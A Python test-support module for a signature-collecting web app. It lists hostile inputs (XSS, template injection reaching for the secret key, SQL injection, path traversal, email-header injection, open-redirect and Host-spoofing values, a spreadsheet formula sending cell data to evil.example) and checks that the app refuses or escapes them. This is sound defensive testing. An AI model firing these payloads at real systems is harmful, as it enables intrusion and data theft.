"""Hostile inputs, as tables shared by the tests that throw them at every public form and URL
(tests/test_hostile_*.py), and the oracle that judges each answer: a 4xx with a clear message or
a clean acceptance, never a 5xx, nothing reflected unescaped, no header injected into an email.

A new public form or URL is one more entry in FORM_TARGETS, SLUG_URLS or TOKEN_URLS."""

from __future__ import annotations

import re
from collections.abc import Callable
from dataclasses import dataclass, field
from email.message import EmailMessage
from html import unescape
from html.parser import HTMLParser
from typing import Any

from tests.conftest import TEST_SECRET


@dataclass(frozen=True)
class Hostile:
    """One hostile value; ``id`` names it in test ids."""

    id: str
    value: str


# 1234*5678: a template that evaluates user text would print this number.
EVALUATED = "7006652"

MARKUP = [
    Hostile("script-tag", "<script>alert(1)</script>"),
    Hostile("img-onerror", '"><img src=x onerror=alert(1)>'),
    Hostile("svg-onload", "<svg/onload=alert(1)>"),
    Hostile("single-quote-attribute", "' onmouseover='alert(1)' x='"),
    Hostile("close-textarea", "</textarea><script>alert(1)</script>"),
    Hostile("close-title", "</title><script>alert(1)</script>"),
    Hostile("anchor-javascript", '<a href="javascript:alert(1)">x</a>'),
    Hostile("iframe", "<iframe src=//evil.example></iframe>"),
    Hostile("entity-encoded-script", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    Hostile("markdown-javascript-link", "[x](javascript:alert(1))"),
    Hostile("markdown-remote-image", "![x](https://evil.example/t.png)"),
    Hostile("bare-javascript-url", "javascript:alert(1)"),
    Hostile("style-expression", "<style>*{background:url(//evil.example)}</style>"),
]
TEMPLATE_INJECTION = [
    Hostile("jinja-expression", "{{1234*5678}}"),
    Hostile("jinja-config", "{{ config.SECRET_KEY }}{{ config }}"),
    Hostile("jinja-statement", "{% for x in range(3) %}LOOP{% endfor %}"),
    Hostile("dollar-expression", "${1234*5678}"),
    Hostile("ruby-expression", "#{1234*5678}"),
    Hostile("python-format", "{0.__class__} %(SECRET_KEY)s %s%n"),
]
HEADER_INJECTION = [
    Hostile("crlf-bcc", "Name\r\nBcc: injected@example.org"),
    Hostile("lf-bcc", "Name\nBcc: injected@example.org"),
    Hostile("cr-bcc", "Name\rBcc: injected@example.org"),
    Hostile("crlf-body", "Name\r\n\r\n<html>injected body"),
    Hostile("crlf-to", "Name\r\nTo: injected@example.org\r\nX-Injected: yes"),
    Hostile("encoded-word", "=?utf-8?q?Bcc=3A_injected=40example=2Eorg?="),
    Hostile("percent-crlf", "Name%0d%0aBcc: injected@example.org"),
    Hostile("line-separator", "Name\u2028Bcc: injected@example.org"),
    Hostile("paragraph-separator", "Name\u2029Bcc: injected@example.org"),
    Hostile("next-line", "Name\x85Bcc: injected@example.org"),
]
CONTROL = [
    Hostile("nul-inside", "Amnesty\x00International"),
    Hostile("nul-only", "\x00"),
    Hostile("bell-backspace", "Amnesty\x07\x08International"),
    Hostile("ansi-escape", "\x1b[31mAmnesty International"),
    Hostile("delete", "Amnesty\x7fInternational"),
    Hostile("vertical-tab-form-feed", "Amnesty\x0b\x0cInternational"),
]
BIDI = [
    Hostile("right-to-left-override", "Amnesty \u202elanoitanretnI"),
    Hostile("left-to-right-override", "Amnesty \u202dInternational"),
    Hostile("isolates", "Amnesty \u2067International\u2069"),
    Hostile("right-to-left-mark", "Amnesty\u200f International"),
    Hostile("arabic-letter-mark", "Amnesty\u061c International"),
]
ZERO_WIDTH = [
    Hostile("zero-width-space", "Amnesty\u200bInternational"),
    Hostile("zero-width-non-joiner", "Amnesty\u200cInternational"),
    Hostile("zero-width-joiner", "Amnesty\u200dInternational"),
    Hostile("byte-order-mark-inside", "Amnesty\ufeffInternational"),
    Hostile("word-joiner", "Amnesty\u2060International"),
    Hostile("only-invisible", "\u200b\u200b\ufeff"),
]
UNICODE = [
    Hostile("decomposed-accent", "Cafe\u0301 Migrante"),
    Hostile("combining-pileup", "Z" + "\u0301" * 400),
    Hostile("full-width-latin", "Ａｍｎｅｓｔｙ"),
    Hostile("cyrillic-homoglyph", "\u0410mnesty International"),
    Hostile("arabic-script", "منظمة العفو الدولية"),
    Hostile("emoji-flag-sequence", "\U0001f3f3\ufe0f\u200d\U0001f308 Rainbow Org"),
    Hostile("replacement-character", "Amnesty \ufffd International"),
    Hostile("private-use", "Amnesty \ue000 International"),
    Hostile("tag-characters", "Amnesty\U000e0041\U000e0042 International"),
]
INJECTION = [
    Hostile("sql-quote", "' OR 1=1 --"),
    Hostile("sql-drop", "Robert'); DROP TABLE signature;--"),
    Hostile("path-traversal", "../../../../etc/passwd"),
    Hostile("formula", '=HYPERLINK("https://evil.example/?x="&A1,"Click")'),
    Hostile("only-spaces", " \u00a0\u3000 "),
]
LENGTH = [
    # Over the 64 kB a public POST may carry: 413 before any view runs.
    Hostile("100-kilobytes", "A" * 100_000),
    # Under it, but longer than any field allows.
    Hostile("20-kilobytes", "B" * 20_000),
]
FAMILIES: dict[str, list[Hostile]] = {
    "markup": MARKUP,
    "template": TEMPLATE_INJECTION,
    "header": HEADER_INJECTION,
    "control": CONTROL,
    "bidi": BIDI,
    "zero-width": ZERO_WIDTH,
    "unicode": UNICODE,
    "injection": INJECTION,
    "length": LENGTH,
}
# The families whose values could do harm in an email: each acceptance's message is sent and read.
MAILED_FAMILIES = ("markup", "template", "header")
TEXT_VALUES: list[Hostile] = [value for family in FAMILIES.values() for value in family]

# Email addresses: refused with the form's message (None), or accepted and addressed as given.
EMAILS: list[tuple[Hostile, str | None]] = [
    (Hostile("email-crlf-bcc", "a@example.org\r\nBcc: injected@example.org"), None),
    (Hostile("email-lf-bcc", "a@example.org\nBcc: injected@example.org"), None),
    (Hostile("email-two-by-comma", "a@example.org,injected@example.org"), None),
    (Hostile("email-two-by-semicolon", "a@example.org;injected@example.org"), None),
    (Hostile("email-display-name", "Ana <a@example.org>"), None),
    (Hostile("email-no-dot-domain", "a@b"), None),
    (Hostile("email-300-char-local-part", "a" * 300 + "@example.org"), None),
    (Hostile("email-quoted-local-part", '"quoted"@example.org'), None),
    (Hostile("email-non-ascii-local-part", "usér@example.org"), None),
    (Hostile("email-domain-literal", "a@[127.0.0.1]"), None),
    (Hostile("email-localhost", "a@localhost"), None),
    (Hostile("email-script", "<script>alert(1)</script>@example.org"), None),
    (Hostile("email-space-in-domain", "a@exa mple.org"), None),
    (Hostile("email-nul", "a@example.org\x00"), None),
    (Hostile("email-over-320", "a@" + "b" * 63 + "." + ".".join(["c" * 63] * 5) + ".org"), None),
    (Hostile("email-idna-2008", "user@straße.de"), "user@xn--strae-oqa.de"),
    (Hostile("email-japanese-domain", "a@例え.jp"), "a@xn--r8jz45g.jp"),
    (Hostile("email-upper-case-domain", "Ana@EXAMPLE.ORG"), "Ana@example.org"),
    (Hostile("email-plus-tag", "a+signon@example.org"), "a+signon@example.org"),
]
WEBSITES: list[tuple[Hostile, bool]] = [
    (Hostile("website-javascript", "javascript:alert(1)"), False),
    (Hostile("website-javascript-mixed-case", "JaVaScRiPt:alert(1)"), False),
    (Hostile("website-javascript-slashes", "javascript://example.org/%0aalert(1)"), False),
    (Hostile("website-data", "data:text/html,<script>alert(1)</script>"), False),
    (Hostile("website-data-base64", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="), False),
    (Hostile("website-vbscript", "vbscript:msgbox(1)"), False),
    (Hostile("website-file", "file:///etc/passwd"), False),
    (Hostile("website-credentials", "https://user:pass@example.org"), False),
    (Hostile("website-protocol-relative", "//evil.example"), False),
    (Hostile("website-tab-in-scheme", "java\tscript:alert(1)"), False),
    (Hostile("website-markup-in-path", 'https://example.org/"><script>alert(1)</script>'), True),
]
CATEGORIES = [
    Hostile("category-unknown", "not-a-category"),
    Hostile("category-markup", "<script>alert(1)</script>"),
    Hostile("category-label-not-key", "International"),
    Hostile("category-padded", " international "),
    Hostile("category-nul", "international\x00"),
]
# Fields a person cannot set: the stored signature stays pending, unconfirmed and where it was posted.
EXTRA_FIELDS = {
    "status": "verified",
    "confirmed_at": "2020-01-01T00:00:00",
    "verified_at": "2020-01-01T00:00:00",
    "id": "1",
    "statement_id": "2",
    "hidden": "y",
    "pinned": "y",
    "source_ip": "203.0.113.9",
    "domain_check": "verified",
    "organization_key": "amnesty international",
}

SLUGS = [
    Hostile("slug-dot-dot-encoded", "..%2f..%2fetc%2fpasswd"),
    Hostile("slug-dot-dot", "..%2e"),
    Hostile("slug-nul", "national-guard-letter%00"),
    Hostile("slug-very-long", "a" * 5000),
    Hostile("slug-unicode", "%C3%BCnicode-letter"),
    Hostile("slug-upper-case", "NATIONAL-GUARD-LETTER"),
    Hostile("slug-full-width-digit", "letter-%EF%BC%91"),
    Hostile("slug-markup", "%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
    Hostile("slug-space", "national-guard-letter%20"),
    Hostile("slug-underscore", "national_guard_letter"),
    Hostile("slug-invalid-utf8", "%FF%FE"),
]
TOKENS = [
    Hostile("token-short", "abc"),
    Hostile("token-very-long", "a" * 5000),
    Hostile("token-forged", "a" * 40),
    Hostile("token-dot-dot", "..%2f..%2f" + "a" * 30),
    Hostile("token-nul", "a" * 30 + "%00"),
    Hostile("token-markup", "%3Cscript%3Ealert(1)%3C%2Fscript%3E" + "a" * 20),
    Hostile("token-full-width", "%EF%BC%91" * 25),
    Hostile("token-invalid-utf8", "%FF" * 25),
]
NEXT_TARGETS = [
    Hostile("next-protocol-relative", "//evil.example"),
    Hostile("next-absolute", "https://evil.example"),
    Hostile("next-backslash", "/\\evil.example"),
    Hostile("next-double-backslash", "\\\\evil.example"),
    Hostile("next-javascript", "javascript:alert(1)"),
    Hostile("next-tab", "/\t/evil.example"),
    Hostile("next-triple-slash", "///evil.example"),
    Hostile("next-scheme-no-slashes", "https:evil.example"),
    Hostile("next-leading-space", " //evil.example"),
    Hostile("next-data", "data:text/html,<script>alert(1)</script>"),
]
WRONG_METHODS = ("PUT", "DELETE", "PATCH")
HOSTS = [
    Hostile("host-evil", "evil.example"),
    Hostile("host-evil-with-port", "evil.example:443"),
    Hostile("host-base-as-suffix", "signon.example.org.evil.example"),
    Hostile("host-user-info", "signon.example.org@evil.example"),
]
FORWARDED = [
    Hostile("x-forwarded-host", "X-Forwarded-Host: evil.example"),
    Hostile("x-forwarded-for", "X-Forwarded-For: 203.0.113.66"),
    Hostile("forwarded", "Forwarded: for=203.0.113.66;host=evil.example;proto=https"),
    Hostile("x-forwarded-proto-and-port", "X-Forwarded-Proto: https|X-Forwarded-Port: 8443"),
]
# Raw bodies that are not a form a browser sends.
BODIES = [
    Hostile("body-invalid-utf8", "invalid UTF-8 bytes"),
    Hostile("body-10-megabytes", "10 MB"),
    Hostile("body-30000-fields", "30,000 fields"),
    Hostile("body-json", "application/json"),
    Hostile("body-text-plain", "text/plain"),
    Hostile("body-xml", "application/xml"),
    Hostile("body-multipart-file", "multipart with a file"),
    Hostile("body-missing-csrf", "no CSRF token"),
    Hostile("body-stale-csrf", "an expired CSRF token"),
    Hostile("body-foreign-csrf", "another session's CSRF token"),
]

HOSTILE_INPUTS: list[Hostile] = [
    *TEXT_VALUES,
    *(h for h, _ in EMAILS),
    *(h for h, _ in WEBSITES),
    *CATEGORIES,
    *(Hostile(f"extra-{name}", value) for name, value in EXTRA_FIELDS.items()),
    *SLUGS,
    *TOKENS,
    *NEXT_TARGETS,
    *(Hostile(f"method-{m}", m) for m in WRONG_METHODS),
    *HOSTS,
    *FORWARDED,
    *BODIES,
]


def ids(cases: list[Hostile]) -> list[str]:
    return [case.id for case in cases]


# --------------------------------------------------------------------------- the oracle


class _LiveMarkup(HTMLParser):
    """Collects the elements and attributes of a page that would run or load something:
    scripts without a source on this site, frames, SVG, style blocks, event handlers, and
    links or sources with a javascript:, data: or vbscript: address."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = dict(attrs)
        if tag == "script" and not (values.get("src") or "").startswith("/static/"):
            self.found.append(f"<script {values}>")
        if tag in ("iframe", "svg", "style", "object", "embed", "base") or (tag == "meta" and "http-equiv" in values):
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on"):
                self.found.append(f"<{tag} {name}={value!r}>")
            if name in ("href", "src", "action", "formaction") and value:
                # As a browser reads a URL: tabs and line breaks anywhere dropped, the ends trimmed.
                url = re.sub(r"[\t\n\r]", "", value).strip(
                    "\x00\x01\x02\x03\x04\x05\x06\x07\x08\x0b\x0c\x0e\x0f"
                    "\x10\x11\x12\x13\x14\x15\x16\x17\x18\x19\x1a\x1b\x1c\x1d\x1e\x1f "
                )
                if url.lower().startswith(("javascript:", "data:", "vbscript:")):
                    self.found.append(f"<{tag} {name}={value!r}>")


def live_markup(html: str) -> list[str]:
    """Markup in ``html`` that would run or load something if a browser rendered it."""
    parser = _LiveMarkup()
    parser.feed(html)
    parser.close()
    return parser.found


def assert_no_reflection(body: str, value: str) -> None:
    """Nothing of ``value`` comes back as live markup, evaluated as a template, or revealing a secret."""
    if "<" in value:
        assert value not in body, f"reflected unescaped: {value[:80]!r}"
    assert not live_markup(body), live_markup(body)
    assert EVALUATED not in body, "a template evaluated user input"
    assert "LOOPLOOPLOOP" not in body, "a template evaluated user input"
    assert TEST_SECRET not in body, "the secret key was revealed"


_ERROR_SUMMARY_ITEM = re.compile(r'<div class="error-summary".*?<li>(?:<a [^>]*>)?\s*([^<]*[^<\s])', re.S)
_HEADING = re.compile(r"<h1[^>]*>\s*([^<]*[^<\s])", re.S)


def clear_message(body: str) -> str:
    """What a 4xx page tells the person: the first item of the form's error summary, or the
    page's heading. An empty string when there is neither."""
    summary = _ERROR_SUMMARY_ITEM.search(body)
    if summary:
        return unescape(summary.group(1)).strip()
    heading = _HEADING.search(body)
    return unescape(heading.group(1)).strip() if heading else ""


def assert_answered(response: Any, value: str = "", *, accepted: tuple[int, ...] = (200, 302, 303)) -> str:
    """A clean acceptance or a 4xx that says what is wrong; never a 5xx; nothing reflected.
    Returns "accepted" or "refused"."""
    status = response.status_code
    body = response.get_data(as_text=True)
    assert status < 500, f"{status} for {value[:80]!r}"
    assert_no_reflection(body, value)
    for name, header in response.headers.items():
        assert "\n" not in header and "\r" not in header, (name, header)
        assert "evil.example" not in header or name == "Set-Cookie", (name, header)
    if status in accepted:
        return "accepted"
    assert 400 <= status < 500, f"unexpected {status}"
    if response.mimetype == "text/html":
        assert clear_message(body), f"a {status} without a message: {body[:300]}"
    return "refused"


# Headers our messages carry; anything else in a received message was injected.
MESSAGE_HEADERS = {
    "content-type", "mime-version", "subject", "from", "to", "date", "message-id", "auto-submitted",
    "reply-to", "list-unsubscribe", "list-unsubscribe-post", "precedence", "content-transfer-encoding",
}  # fmt: skip


def assert_clean_message(message: EmailMessage, rcpt_tos: list[str], expected: list[str], values: list[str]) -> None:
    """A received message: addressed to ``expected`` and no one else, only our own headers, and
    no hostile ``values`` as live markup, evaluated, or revealing the secret key."""
    assert [r.lower() for r in rcpt_tos] == [e.lower() for e in expected], rcpt_tos
    names = {name.lower() for name in message}
    assert names <= MESSAGE_HEADERS, names - MESSAGE_HEADERS
    for name in ("To", "Cc", "Bcc"):
        assert len(message.get_all(name) or []) <= 1, name
    assert "injected" not in str(message["To"]) and message["Cc"] is None and message["Bcc"] is None
    for part in message.walk():
        if part.get_content_maintype() != "text":
            continue
        content = part.get_content()
        for value in values:
            if part.get_content_subtype() == "html":
                assert_no_reflection(content, value)
            else:
                assert EVALUATED not in content and TEST_SECRET not in content


@dataclass(frozen=True)
class FormTarget:
    """A public form, as the tables see it.

    ``prepare(app)`` seeds what the form needs, once per test; ``path(app, n)`` gives the URL of
    the ``n``-th post (a form whose acceptance uses up its link, such as a password reset, gets
    a fresh link each time); ``base(n)`` is a valid post, to which one hostile field is applied;
    ``fields`` are the fields to attack; ``recipient(n, values)`` is the address its email goes
    to after a clean acceptance (None: it sends none, or none is checked)."""

    name: str
    prepare: Callable[[Any], None]
    path: Callable[[Any, int], str]
    base: Callable[[int], dict[str, str]]
    fields: tuple[str, ...]
    recipient: Callable[[int, dict[str, str]], str | None] = lambda n, values: None
    accepted: tuple[int, ...] = (302, 303)
    extra: dict[str, Any] = field(default_factory=dict)
